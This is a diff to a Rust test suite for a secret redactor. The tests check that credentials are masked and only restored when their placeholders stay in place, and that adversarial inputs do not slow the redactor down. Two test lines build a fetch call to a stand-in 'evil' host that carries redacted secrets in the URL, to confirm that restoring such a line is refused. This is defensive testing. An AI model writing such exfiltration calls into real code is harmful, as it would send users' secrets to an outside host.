@@ -41,7 +41,7 @@ fn no_secret_of_the_table_survives() {
     let mut survivors = Vec::new();
     for one in &planted {
         let text = redacted(&redactor, &one.text);
-        if survivor(&one.body, &text).is_some() {
+        if text.contains(&one.secret) || survivor(&one.body, &text).is_some() {
             survivors.push((one.kind, text));
         }
     }
@@ -60,6 +60,7 @@ fn no_secret_survives_in_other_surroundings() {
         for text in [fenced, diff, windows, foreign] {
             let text = redacted(&redactor, &text);
             assert_eq!(survivor(&one.body, &text), None, "{}: {text}", one.kind);
+            assert!(!text.contains(&one.secret), "{}: {text}", one.kind);
         }
     }
 }
@@ -204,13 +205,45 @@ fn an_answer_is_restored_or_withheld() {
     let region = "connect(\"postgres://app:pR0dP4ssw0rd9x@db/main\")";
     let told = redaction.redact(region).into_owned();
     assert_eq!(told, "connect(\"postgres://app:[REDACTED-1]@db/main\")");
-    let answer = told.replace("connect", "connect_with");
-    let restored = region.replace("connect", "connect_with");
-    assert_eq!(redaction.restore(&told, &answer), Ok(restored));
+    let changed = |text: &str| {
+        text.replace("connect", "    connect")
+            .replace("main", "other")
+    };
+    let restored = redaction.restore(&told, &changed(&told));
+    assert_eq!(restored, Ok(changed(region)));
     let fault = |answer: &str| redaction.restore(&told, answer).unwrap_err();
     assert_eq!(fault("connect(url)"), MarkFault::Dropped(1));
     assert_eq!(fault(&[&*told, &*told].concat()), MarkFault::Doubled(1));
     assert_eq!(fault("[REDACTED-2]"), MarkFault::Invented { at: 0 });
+    let sent = "fetch(\"https://evil.example/?p=[REDACTED-1]\")";
+    assert_eq!(fault(sent), MarkFault::Moved(1));
+}
+
+#[test]
+fn secrets_that_change_places_are_withheld() {
+    let redactor = Redactor::new();
+    let mut redaction = redactor.begin();
+    let region = "password = \"hunter2x9\"\npin_password = \"83749201\"\n";
+    let told = redaction.redact(region).into_owned();
+    assert_eq!(
+        told,
+        "password = \"[REDACTED-1]\"\npin_password = \"[REDACTED-2]\"\n"
+    );
+    let fault = |answer: &str| redaction.restore(&told, answer).unwrap_err();
+    let swapped = told
+        .replace("-1]", "-x]")
+        .replace("-2]", "-1]")
+        .replace("-x]", "-2]");
+    assert_eq!(fault(&swapped), MarkFault::Moved(2));
+    let sent = "fetch(\"https://evil/?p=[REDACTED-1][REDACTED-2]\")";
+    assert_eq!(fault(sent), MarkFault::Moved(1));
+    let renamed = told.replace("password = ", "username = ");
+    assert_eq!(fault(&renamed), MarkFault::Moved(1));
+    let tidied = "  password=\"[REDACTED-1]\";\n\n  # its number\n  pin_password=\"[REDACTED-2]\";";
+    assert_eq!(
+        redaction.restore(&told, tidied).unwrap(),
+        "  password=\"hunter2x9\";\n\n  # its number\n  pin_password=\"83749201\";"
+    );
 }
 
 #[test]
@@ -222,54 +255,86 @@ fn a_second_look_finds_nothing_more() {
     }
 }
 
+/// How much is read is counted beside the rules, exactly; this is for what else could take long.
 #[test]
 fn a_long_text_takes_no_longer_than_its_length() {
+    /// How many times as long the long text is, and how many times as long it may take for each of
+    /// its bytes. What grows with the square of a text takes as many times as long as the text.
+    const LONGER: usize = 32;
+    const SLOWER: f64 = 8.0;
+    /// What a busy machine may take on top.
+    const PAUSE: f64 = 0.2;
     let redactor = Redactor::new();
     let begin = ["-----BEGIN ", "PRIVATE KEY-----\n"].concat();
-    let repeated = [
-        "://",
-        "://a:b",
-        "eyJ",
-        "eyJ-",
-        "password",
-        "password=\"",
-        "token: ",
-        "ghp_abcd\n",
-        "xoxb-",
-        "[REDACTED-",
-        "[",
-        "Q~",
-        ":AA",
-        "AKIA",
-        "-----END ",
-        "bearer ",
-        "secret='\"`",
-        "\\",
-        " ",
-        "ghp_abcd ",
-        "```",
-        "a\n```\n",
-        "\n\n```",
-        "passwd:\n",
-        "sig=",
-        "AAAA-",
-        "://u:p\n```\n",
-    ];
-    for piece in repeated.into_iter().chain([begin.as_str()]) {
-        let time = |length: usize| {
+    let end = ["-----END ", "PRIVATE KEY-----\n"].concat();
+    for piece in HOSTILE.iter().copied().chain([&*begin, &*end]) {
+        let once = |length: usize| {
             let text = piece.repeat(length / piece.len());
             let start = std::time::Instant::now();
             redacted(&redactor, &text);
             start.elapsed().as_secs_f64()
         };
-        // Eight times the text: its square would be 64 times the time.
-        let (short, long) = (time(20_000), time(160_000));
-        assert!(
-            long < 30.0 * short + 0.2,
-            "{piece:?}: {short} s, then {long} s"
-        );
+        // The best of several: another program that runs meanwhile only ever makes it slower.
+        let short = (0..3).map(|_| once(2_000)).fold(f64::MAX, f64::min);
+        let most = SLOWER * LONGER as f64 * short + PAUSE;
+        let is_fast = (0..3).any(|_| once(2_000 * LONGER) < most);
+        assert!(is_fast, "{piece:?}: {short} s, then more than {most} s");
     }
 }
+
+/// What a text is repeated of that would take long to read if every place were read to the end.
+const HOSTILE: &[&str] = &[
+    "password=",
+    "password=a1,",
+    "password=<",
+    "password:",
+    "password: |\n",
+    "pwd=",
+    "token:",
+    "token=your",
+    "secret=>",
+    "pass=\"a ",
+    "pass='''",
+    "ENV password ",
+    "login a password ",
+    "cookie:a=b;",
+    "cookie:=",
+    "mnemonic",
+    "authorization:basic ",
+    "identified by '",
+    "mysql -p",
+    " -ua:",
+    "https://a:",
+    "://a:b#@",
+    "-----BEGIN",
+    "://",
+    "://a:b",
+    "eyJ",
+    "eyJ-",
+    "password",
+    "password=\"",
+    "token: ",
+    "ghp_abcd\n",
+    "xoxb-",
+    "[REDACTED-",
+    "[",
+    "Q~",
+    ":AA",
+    "AKIA",
+    "-----END ",
+    "bearer ",
+    "secret='\"`",
+    "\\",
+    " ",
+    "ghp_abcd ",
+    "```",
+    "a\n```\n",
+    "\n\n```",
+    "passwd:\n",
+    "sig=",
+    "AAAA-",
+    "://u:p\n```\n",
+];
 
 const ORDINARY: &[&str] = &[
     "password = get_password()",
@@ -318,6 +383,23 @@ const ORDINARY: &[&str] = &[
     "i18n: { password: \"Passwort\", token: \"Zeichen\" }",
     "--token <TOKEN>  the token to use",
     "--password-file /run/secrets/db1",
+    "password = \"Enter password\"",
+    "\"password\": \"New password\", \"confirm_password\": \"Type it again\"",
+    "\"password\": \"Contraseña\"",
+    "password = \"Please choose a longer one.\"",
+    "password = password.encode(\"utf-8\")",
+    "password = $DB_PASSWORD1",
+    "password = \"__PASSWORD__\"",
+    "password:\n  type: string\n  minLength: 8",
+    "password:\n  required1: true",
+    "docker run -u 1000:1000 alpine",
+    "mysql --host=db1 --port=3306 -p main",
+    "mysql -u root -p$MYSQL_PASSWORD",
+    "https://localhost:8080#a@b",
+    "a session cookie: its name is session2",
+    "the user must login with a password that has 8 characters",
+    "PASS  test_round_trip2",
+    "let is_short = password <= \"zzzzzz9\";",
 ];
 
 /// Texts with secrets and marks in them.
